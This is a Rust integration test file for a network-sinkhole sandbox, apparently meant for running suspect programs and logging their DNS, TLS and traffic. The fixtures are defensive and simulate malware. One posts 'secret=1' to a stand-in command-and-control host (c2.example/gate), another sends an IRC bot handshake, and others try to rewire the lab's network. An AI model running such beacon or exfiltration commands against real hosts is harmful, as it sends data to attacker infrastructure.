//! `sinkgate lab`, by an ordinary user: a program, its exit code, its terminal, and nothing left.

use std::fs;

use serde_json::{Value, json};
use testkit::{Database, Labs, can_run_labs, wait_until};

const SINKGATE: &str = env!("CARGO_BIN_EXE_sinkgate");

fn labs(programs: &[&str]) -> Option<Labs> {
    can_run_labs(programs).then(|| Labs::of(SINKGATE))
}

#[test]
fn exit_codes_are_the_programs() {
    let Some(labs) = labs(&[]) else { return };
    for (script, code) in
        [("exit 0", 0), ("exit 7", 7), ("kill -9 $$", 137), ("kill -TERM $$", 143)]
    {
        let outcome = labs.run(&["lab", "--quiet", "--", "sh", "-c", script]);
        assert_eq!(outcome.status.code(), Some(code), "{script}: {outcome:?}");
    }
    let missing = labs.run(&["lab", "--", "/no/such/program"]);
    assert_eq!(missing.status.code(), Some(127), "as a shell says it: {missing:?}");
    assert!(missing.stderr.contains("/no/such/program"), "{missing:?}");
}

#[test]
fn standard_input_and_output_pass_through() {
    let Some(labs) = labs(&[]) else { return };
    let outcome = labs.fed("one\ntwo\n", &["lab", "--quiet", "--", "sed", "s/^/> /"]);
    assert_eq!(outcome.stdout, "> one\n> two\n");
    let outcome = labs.run(&["lab", "--quiet", "--", "sh", "-c", "echo out; echo err >&2"]);
    assert_eq!((&*outcome.stdout, outcome.stderr.contains("err")), ("out\n", true));
    let outcome = labs.fed("echo from a shell\nexit 3\n", &["lab", "--quiet", "-i"]);
    assert_eq!((&*outcome.stdout, outcome.status.code()), ("from a shell\n", Some(3)));
}

#[test]
fn the_program_is_the_user_it_was_started_as() {
    let Some(labs) = labs(&[]) else { return };
    let owner = "stat -c %u,%g . && id -u && id -g && pwd";
    let outcome = labs.output(owner);
    let lines: Vec<&str> = outcome.lines().collect();
    assert_eq!(lines[0], format!("{},{}", lines[1], lines[2]), "{outcome}");
    assert_ne!(lines[1], "0", "{outcome}");
    assert_eq!(lines[3], labs.folder.path().display().to_string());
    let rights = labs.output("grep CapEff /proc/self/status");
    assert_eq!(rights.trim(), "CapEff:\t0000000000000000");
}

#[test]
fn the_network_is_all_there() {
    let Some(labs) = labs(&["curl", "dig", "ping"]) else { return };
    let resolver = labs.output("cat /etc/resolv.conf");
    assert!(resolver.contains("nameserver 192.168.1.1"), "{resolver}");
    let page = labs.output("curl -sS --max-time 20 http://example.com/");
    assert!(page.contains("<html"), "{page}");
    let page = labs.output("curl -sS -6 --max-time 20 http://example.com:8080/");
    assert!(page.contains("<html"), "{page}");
    let pings = labs.output("ping -c 1 -W 10 8.8.8.8; ping -c 1 -W 10 2001:4860:4860::8888");
    assert_eq!(pings.matches(" 0% packet loss").count(), 2, "{pings}");
    let address = labs.output("dig +short any.example @9.9.9.9");
    assert!(address.trim().parse::<std::net::Ipv4Addr>().is_ok(), "{address}");
    let own = labs.output(
        "python3 -c \"
import socket
s = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(s.getsockname())
print('loopback works')
s = socket.create_server(('::1', 0), family=socket.AF_INET6)
c = socket.create_connection(s.getsockname()[:2]); print('and for IPv6')\"",
    );
    assert_eq!(own, "loopback works\nand for IPv6\n");
}

#[test]
fn programs_trust_every_name_and_address() {
    let Some(labs) = labs(&["curl", "wget", "openssl"]) else { return };
    let said = labs.output(
        "for url in https://anything.example/ https://odd.example:8443/a.txt https://8.8.4.4/; do
           curl -sS --max-time 20 -o /dev/null -w '%{http_code} ' $url; done
         wget -q -T 20 -O /dev/null https://wget.example/ && echo wget
         python3 -c 'import urllib.request as u; print(u.urlopen(\"https://py.example/\").status)'
         openssl s_client -connect s.example:993 -servername s.example 2>/dev/null </dev/null \\
           | grep -o 'Verify return code: 0' | sort -u",
    );
    assert_eq!(said, "200 200 200 wget\n200\nVerify return code: 0\n");
    labs.database().expect(
        "SELECT json_extract(details, '$.certificate_for') AS subject FROM event
         WHERE kind = 'tls.established' ORDER BY seq",
        &json!([
            {"subject": "anything.example"},
            {"subject": "odd.example"},
            {"subject": "8.8.4.4"},
            {"subject": "wget.example"},
            {"subject": "py.example"},
            {"subject": "s.example"},
        ]),
    );
}

#[test]
fn what_it_said_is_in_the_database() {
    let Some(labs) = labs(&["curl"]) else { return };
    let _ = labs.output(
        "curl -sS --max-time 20 http://c2.example:8080/gate -d secret=1
         python3 -c 'import socket
s = socket.create_connection((\"2001:db8::7\", 6667)); s.sendall(b\"NICK bot\")'",
    );
    let database = labs.database();
    database.expect("SELECT DISTINCT name FROM dns_query", &json!([{"name": "c2.example"}]));
    database.expect(
        "SELECT dst_port, protocol, CAST(bytes AS TEXT) LIKE '%secret=1' AS is_told,
             (SELECT group_concat(source) FROM (SELECT DISTINCT source FROM flow_name
              WHERE flow_name.flow = flow.seq ORDER BY source)) AS named_by
         FROM flow JOIN payload ON payload.flow = flow.seq
         JOIN flow_end ON flow_end.flow = flow.seq
         WHERE transport = 6 AND direction = 0 AND offset + length = bytes_from_victim
         ORDER BY dst_port",
        &json!([
            {"dst_port": 6667, "protocol": "irc", "is_told": 0, "named_by": null},
            {"dst_port": 8080, "protocol": "http", "is_told": 1, "named_by": "dns,host"},
        ]),
    );
    database.expect(
        "SELECT count(*) AS runs, (SELECT count(*) FROM run_end) AS ended FROM run",
        &json!([{"runs": 1, "ended": 1}]),
    );
    database.assert_consistent();
}

#[test]
fn a_summary_says_what_happened_and_quiet_says_nothing() {
    let Some(labs) = labs(&["dig"]) else { return };
    let dig = ["--", "dig", "+short", "summed-up.example"];
    let told = labs.run(&[&["lab"], &dig[..]].concat());
    for word in ["summed-up.example", "dns", "sinkgate show", ".db"] {
        assert!(told.stderr.contains(word), "{word} is not in {told:?}");
    }
    let quiet = labs.run(&[&["lab", "--quiet"], &dig[..]].concat());
    assert_eq!(quiet.stderr, "", "{quiet:?}");
    let json = labs.run(&[&["lab", "--json"], &dig[..]].concat());
    let summary = json.stderr.lines().find(|line| line.starts_with('{')).unwrap();
    let summary: Value = serde_json::from_str(summary).unwrap();
    assert_eq!(summary["dns_queries"], 1, "{summary}");
    assert!(summary["flows"].as_u64() >= Some(1), "{summary}");
    assert!(fs::metadata(summary["database"].as_str().unwrap()).is_ok(), "{summary}");
}

#[test]
fn a_new_database_is_in_the_state_folder_and_show_finds_it() {
    let Some(labs) = labs(&["dig"]) else { return };
    for name in ["first.example", "second.example"] {
        let outcome = labs.run(&["lab", "--quiet", "--", "dig", "+short", name]);
        assert!(outcome.status.success(), "{outcome:?}");
    }
    let state = labs.folder.file("state/sinkgate");
    let names = fs::read_dir(state).unwrap().map(|entry| entry.unwrap().path());
    let databases: Vec<_> =
        names.filter(|path| path.extension().is_some_and(|ending| ending == "db")).collect();
    assert_eq!(databases.len(), 2, "one for each run");
    assert!(databases.iter().all(|path| Database::at(path.clone()).runs() == 1));
    let shown = labs.run(&["show", "dns", "--json"]);
    assert_eq!(shown.stdout.lines().count(), 1, "{shown:?}");
    assert!(shown.stdout.contains("second.example"), "{shown:?}");
}

#[test]
fn a_database_is_used_again() {
    let Some(labs) = labs(&["dig"]) else { return };
    let first = labs.output("dig +short again.example");
    assert_eq!(labs.output("dig +short again.example"), first, "a name keeps its address");
    assert_eq!(labs.database().runs(), 2);
}

#[test]
fn settings_hold_in_the_lab() {
    let Some(labs) = labs(&["dig"]) else { return };
    let set = ["lab", "--quiet", "--set", "dns.mode=fixed", "--set", "dns.fixed_v4=198.18.0.5"];
    let outcome = labs.run(&[&set[..], &["--", "dig", "+short", "set.example"]].concat());
    assert_eq!(outcome.stdout, "198.18.0.5\n", "{outcome:?}");
}

#[test]
fn threat_1_a_program_in_the_lab_cannot_change_its_network() {
    let Some(labs) = labs(&[]) else { return };
    let links = labs.output("ip -o link | wc -l");
    assert_eq!(links.trim(), "2", "loopback, and the cable to us");
    let changes = labs.output(
        "for change in 'link set lo down' 'link add d0 type dummy' 'route flush table main' \
             'addr add 10.9.9.9/24 dev lo' 'netns add other'; do
             if ip $change 2>/dev/null; then echo \"$change\"; fi
         done; ip route | grep default",
    );
    assert!(changes.starts_with("default via "), "{changes}");
}

#[test]
fn a_terminal_passes_through() {
    let Some(labs) = labs(&["script"]) else { return };
    let line = "./sinkgate lab --quiet -- sh -c 'test -t 0 && test -t 1 && test -t 2 && echo yes'";
    let outcome = labs.through("script", &["-qec", line, "/dev/null"]);
    assert_eq!(outcome.stdout.trim(), "yes", "{outcome:?}");
}

#[test]
fn ctrl_c_at_a_terminal_ends_everything() {
    let Some(labs) = labs(&[]) else { return };
    let outcome = labs.through(
        "python3",
        &["-c", r"
import os, pty
pid, terminal = pty.fork()
if pid == 0:
    os.execv('./sinkgate', ['sinkgate', 'lab', '--quiet', '--', 'sh', '-c', 'echo ready; sleep 1000'])
seen = b''
while b'ready' not in seen: seen += os.read(terminal, 1000)
os.write(terminal, b'\x03')
try:
    while os.read(terminal, 1000): pass
except OSError: pass
print(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
"],
    );
    assert!(["130", "-2"].contains(&outcome.stdout.trim()), "{outcome:?}");
}

#[test]
fn a_machine_that_forbids_user_namespaces_is_told_how_to_allow_them() {
    let Some(labs) = labs(&[]) else { return };
    let forbidden = "echo 0 > /proc/sys/user/max_user_namespaces
        exec setpriv --ambient-caps=-all --inh-caps=-all ./sinkgate lab -- true";
    let user = ["-U", "--map-current-user", "--keep-caps", "sh", "-ec", forbidden];
    let outcome = labs.through("unshare", &user);
    assert_eq!(outcome.status.code(), Some(125), "{outcome:?}");
    for word in ["max_user_namespaces", "sudo"] {
        assert!(outcome.stderr.contains(word), "{word} is not in {outcome:?}");
    }
}

#[test]
#[ignore = "end to end: needs root"]
fn root_runs_labs_too() {
    if !can_run_labs(&["curl"]) {
        return;
    }
    let labs = Labs::of_root(SINKGATE);
    let outcome =
        labs.output("id -u; curl -sS --max-time 20 -o page http://example.com/; cat page");
    assert!(outcome.starts_with("0\n") && outcome.contains("<html"), "{outcome}");
    let outcome = labs.run(&["lab", "--quiet", "--", "sh", "-c", "exit 9"]);
    assert_eq!(outcome.status.code(), Some(9), "{outcome:?}");
}

#[test]
fn after_kill_9_nothing_is_left() {
    let Some(labs) = labs(&[]) else { return };
    let mut lab = going_on(&labs);
    let family = lab.ids();
    assert!(family.len() > 1, "{family:?}");
    lab.kill_the_first();
    assert_gone(&family);
    assert!(labs.database().is_sound());
    let rows = labs.database().rows("SELECT CAST(bytes AS TEXT) AS said FROM payload");
    assert_eq!(rows, json!([{"said": "still here"}]));
}

#[test]
fn sigterm_and_sigint_end_everything() {
    let Some(labs) = labs(&[]) else { return };
    let signals: [fn(&testkit::Process); 2] =
        [testkit::Process::terminate, testkit::Process::interrupt];
    for signal in signals {
        let mut lab = going_on(&labs);
        let family = lab.ids();
        signal(&lab);
        assert!(!lab.end().success());
        assert_gone(&family);
    }
    labs.database().expect(
        "SELECT count(*) AS runs, (SELECT count(*) FROM run_end) AS ended FROM run",
        &json!([{"runs": 2, "ended": 2}]),
    );
}

#[test]
fn what_the_program_leaves_behind_ends_with_it() {
    let Some(labs) = labs(&[]) else { return };
    let outcome = labs.output("setsid sh -c 'sleep 1000' >/dev/null 2>&1 & echo $!");
    assert!(!outcome.is_empty());
    let sleeping = |entry: &fs::DirEntry| {
        let line = fs::read_to_string(entry.path().join("cmdline")).unwrap_or_default();
        let place = fs::read_link(entry.path().join("cwd")).unwrap_or_default();
        line.contains("sleep\0") && place.starts_with(labs.folder.path())
    };
    wait_until("it has ended", || {
        !fs::read_dir("/proc").unwrap().flatten().any(|entry| sleeping(&entry))
    });
}

/// A lab whose program holds a connection open, and starts one that takes no notice of signals.
fn going_on(labs: &Labs) -> testkit::Process {
    let script = "python3 -uc \"
import signal, socket, subprocess, time
s = socket.create_connection(('203.0.113.9', 6667)); s.sendall(b'still here')
stubborn = 'import signal, time; signal.signal(15, signal.SIG_IGN); signal.signal(2, signal.SIG_IGN); time.sleep(1000)'
subprocess.Popen(['python3', '-c', stubborn])
print('ready'); time.sleep(1000)\"";
    let database = labs.database().path().display().to_string();
    let before = "SELECT count(*) FROM payload";
    let known = if labs.database().runs() > 0 { labs.database().number(before) } else { 0 };
    let lab = labs.start(&["lab", "--quiet", "--db", &database, "--", "sh", "-ec", script]);
    wait_until("it says that it is ready", || labs.written() == "ready\n");
    wait_until("what it said is on disk", || labs.database().number(before) > known);
    lab
}

fn assert_gone(family: &[u32]) {
    wait_until("all of its processes have ended", || family.iter().all(|id| testkit::is_gone(*id)));
}
